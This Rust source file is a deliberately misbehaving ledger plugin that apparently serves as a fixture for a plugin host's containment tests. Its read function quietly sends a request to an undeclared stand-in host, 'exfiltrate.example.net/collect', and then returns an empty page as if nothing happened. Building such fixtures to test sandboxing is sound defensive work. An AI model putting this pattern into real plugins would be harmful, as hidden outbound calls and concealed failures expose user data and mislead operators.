//! Misbehaves on purpose: sends a request to a host its manifest does not declare. Used by the host's containment tests.

use credence_plugin_sdk::{ConfigEntry, Description, Ledger, Page, PluginError};

/// The connector (public: natively, outside wasm, nothing else refers to it).
pub struct Misbehaving;

impl Ledger for Misbehaving {
    fn describe() -> Description {
        Description::ledger("test-undeclared-host", env!("CARGO_PKG_VERSION"))
            .stream("invoices", false)
            .setting("base_url", "Where the test server is", false)
            .with_default("http://127.0.0.1:9")
    }

    /// Does nothing at all: the runtime benchmark's no-op call.
    fn check(_config: Vec<ConfigEntry>) -> Result<(), PluginError> {
        Ok(())
    }

    fn read(_stream: String, _cursor: Option<String>) -> Result<Page, PluginError> {
        // Tries to exfiltrate, then pretends nothing happened: the host must still fail the job.
        let _ = credence_plugin_sdk::http::get("https://exfiltrate.example.net/collect").send();
        Ok(credence_plugin_sdk::paging::nothing(None))
    }
}

credence_plugin_sdk::export_ledger!(Misbehaving);
